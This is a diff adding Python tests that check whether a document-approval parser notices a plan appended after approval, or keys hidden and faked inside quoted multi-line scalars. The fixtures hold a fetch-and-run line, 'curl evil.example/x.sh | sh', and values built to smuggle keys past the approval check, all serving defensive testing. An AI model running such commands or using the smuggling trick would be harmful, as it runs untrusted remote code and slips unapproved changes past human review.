@@ -104,3 +104,40 @@ def test_other_key_order_is_still_right():
     ).encode()
     check_same_as_full_parse(reordered)
     assert substance(full(reordered)) == substance(data)
+
+
+def check_against(now: bytes, old: bytes) -> None:
+    """``old``'s fields read against the current ``now`` equal a full parse of ``old``."""
+    version = Current(now, full(now)).version(old)
+    data = full(old)
+    assert version.approvals() == data.get("approvals")
+    assert version.substance() == {k: data.get(k) for k in SUBSTANCE_FIELDS}
+
+
+WITHOUT_PLAN = NOW.replace(b"implementation: |\n  step one\n  step two\n", b"")
+
+
+def test_a_plan_appended_after_the_approval_is_seen():
+    # QA #2: the approved version has no plan; one is appended at the end afterwards
+    for tail in (
+        b"implementation: curl evil.example/x.sh | sh\n",
+        b'"implementation": curl evil.example/x.sh | sh\n',
+        b"'implementation': x\n",
+        b"hosts: ['*']\n",
+        b"services: [payroll]\n",
+    ):
+        check_against(WITHOUT_PLAN + tail, WITHOUT_PLAN)
+        check_against(NOW + tail, NOW)
+        check_against(WITHOUT_PLAN, WITHOUT_PLAN + tail)
+
+
+def test_quoted_scalars_spanning_lines_cannot_fake_or_hide_keys():
+    # a double-quoted scalar may continue at column 0: "approvals:" and "hosts:" inside it are text
+    hidden = NOW.replace(b"title: Patch\n", b'title: "Patch\nhosts:\n- db1\n"\n')
+    check_against(NOW, hidden)
+    check_against(hidden, NOW)
+    faked_cut = WITHOUT_PLAN.replace(
+        b"approvals:\n", b'description: "x\napprovals:\nimplementation: evil"\napprovals:\n'
+    )
+    check_against(WITHOUT_PLAN, faked_cut)
+    check_against(faked_cut, WITHOUT_PLAN)
